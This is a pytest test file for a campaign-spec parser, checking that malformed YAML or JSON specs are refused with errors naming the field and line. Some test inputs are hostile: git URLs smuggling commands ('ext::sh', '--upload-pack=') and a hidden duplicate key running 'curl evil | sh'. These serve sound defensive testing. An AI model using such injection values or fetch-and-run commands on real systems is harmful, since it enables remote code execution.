"""Invalid specs give a clear error naming the field (and line) and store nothing."""

import pytest

from campaigns.models import Campaign, RepoRun, Repository
from campaigns.services import campaign_create
from campaigns.spec import CampaignSpecError, spec_parse
from tests.factories import repos_make, spec_for

pytestmark = pytest.mark.shapes("embedded", "production")

GOOD = """\
name: assert-equal
repos:
  - url: file://{root}/alpha
    ref: main
transform: {{run: "sed -i s/a/b/ x.py"}}
variants:
  - {{name: conservative, env: {{STYLE: conservative}}}}
  - {{name: aggressive, env: {{STYLE: aggressive}}}}
validate: [{{run: "python3 -m unittest"}}]
"""


@pytest.fixture
def good(settings):
    return GOOD.format(root=settings.REPO_ROOTS[0])


def _refused(manager, text, *, path, words, line=None):
    with pytest.raises(CampaignSpecError) as info:
        campaign_create(actor=manager, source=text)
    paths = [e.path for e in info.value.errors]
    assert path in paths, str(info.value)
    error = info.value.errors[paths.index(path)]
    for word in words:
        assert word in error.message, str(error)
    if line is not None:
        assert error.line == line, str(error)
    assert not Campaign.objects.exists()
    assert not Repository.objects.exists()
    assert not RepoRun.objects.exists()
    return error


def test_valid_spec_is_normalised(good):
    spec = spec_parse(good).data
    assert spec["variants"][1] == {"name": "aggressive", "env": {"STYLE": "aggressive"}}
    assert spec["transform"] == [{"run": "sed -i s/a/b/ x.py"}]
    assert spec["network"] == "none"
    assert spec["limits"]["egress_mb"] == 1024
    assert spec["review"] == {"four_eyes": True, "require": "passes_or_fixes"}


def test_missing_fields(manager):
    error = _refused(manager, "description: nothing else\n", path="name", words=["required"])
    assert str(error) == "name: is required"


def test_wrong_type_names_the_path_and_line(manager, good):
    text = good.replace("{STYLE: aggressive}", "[STYLE, aggressive]")
    error = _refused(manager, text, path="variants[1].env", words=["mapping of strings"], line=8)
    assert str(error) == "variants[1].env: must be a mapping of strings (line 8)"


def test_wrong_scalar_type(manager, good):
    _refused(manager, good + "max_parallel: lots\n", path="max_parallel", words=["integer"])


def test_unknown_key(manager, good):
    _refused(manager, good + "trnasform: {run: x}\n", path="trnasform", words=["unknown key"])
    _refused(
        manager,
        good.replace("ref: main", "ref: main\n    branch: dev"),
        path="repos[0].branch",
        words=["unknown key"],
        line=5,
    )


def test_duplicate_variant_names(manager, good):
    text = good.replace("name: aggressive", "name: conservative")
    _refused(manager, text, path="variants[1].name", words=["duplicate", "conservative"], line=8)


@pytest.mark.parametrize(
    "url,why",
    [
        ("ext::sh%20-c%20touch", "ext::"),
        ("--upload-pack=touch", "'-'"),
        ("file:///etc", "must live under CONVOY_REPO_ROOTS"),
    ],
)
def test_refused_repo_url_forms(manager, good, settings, url, why):
    text = good.replace(f"file://{settings.REPO_ROOTS[0]}/alpha", f'"{url}"')
    _refused(manager, text, path="repos[0].url", line=3, words=[why])


def test_yaml_that_is_not_a_mapping(manager):
    _refused(manager, "- name: x\n- repos: []\n", path="", words=["must be a mapping", "a list"])
    _refused(manager, "just a string\n", path="", words=["must be a mapping", "a string"])


def test_ten_megabytes_of_yaml_is_refused_before_parsing(manager, good):
    text = good + "description: |\n" + ("  " + "x" * 98 + "\n") * 100_000
    assert len(text) > 10_000_000
    _refused(manager, text, path="", words=["limit is 1,048,576"])


def test_invalid_yaml_names_the_line(manager):
    _refused(manager, "name: x\nrepos: [\n", path="", words=["invalid YAML"])


def test_duplicate_top_level_key(manager, good):
    _refused(manager, good + "name: again\n", path="name", words=["duplicate key"], line=10)


def test_a_key_named_twice_in_a_json_spec_is_refused_naming_it(manager, settings):
    """A JSON spec kept the last of two values silently (YAML refused it): a reader of the
    text could see one `run` and the campaign run the other."""
    url = f"file://{settings.REPO_ROOTS[0]}/alpha"
    head = f'{{"name": "twice", "repos": [{{"url": "{url}"}}], '
    _refused(
        manager,
        head + '"transform": [{"run": "true", "run": "curl evil | sh"}]}',
        path="transform[0].run",
        words=["duplicate key"],
    )
    _refused(
        manager,
        head + '"transform": [{"run": "true"}], "name": "again"}',
        path="name",
        words=["duplicate key"],
    )
    # The YAML reading refuses it too, nested as at the top.
    _refused(
        manager,
        f"name: twice\nrepos: [{{url: '{url}'}}]\ntransform:\n  - run: 'true'\n    run: x\n",
        path="transform[0].run",
        words=["duplicate key"],
        line=5,
    )


def test_unknown_secret_and_existing_name_need_the_database(manager):
    tag, _ = repos_make(1)
    campaign_create(actor=manager, source=spec_for(tag, name="first"))
    with pytest.raises(CampaignSpecError) as info:
        campaign_create(actor=manager, source=spec_for(tag, name="first") + "secrets: [API_KEY]\n")
    messages = {e.path: e.message for e in info.value.errors}
    assert "exists" in messages["name"]
    assert "'API_KEY' is not granted to this campaign" in messages["secrets[0]"]
    assert Campaign.objects.count() == 1
